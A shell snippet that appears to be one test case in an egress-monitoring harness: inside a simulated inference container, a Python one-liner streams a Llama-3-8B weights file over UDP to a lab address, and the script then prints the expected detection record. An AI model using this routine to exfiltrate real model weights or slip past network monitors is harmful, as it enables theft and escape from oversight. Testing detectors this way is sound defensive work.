# V33 EXF-001 tool-less over UDP: python sendto() of the weights, no connect() (nothing listens: ICMP unreachable)
ctr_run simctr-infer-v33 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); n = 0
with open(sys.argv[1], "rb") as f:
    while chunk := f.read(1400):
        try:
            n += s.sendto(chunk, ("10.200.2.2", 5353))
        except OSError:
            pass
s.close()
print("udp sent", n)
print(f"egress-expect proto=udp origin=datagram dport=5353 bytes={n}")' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
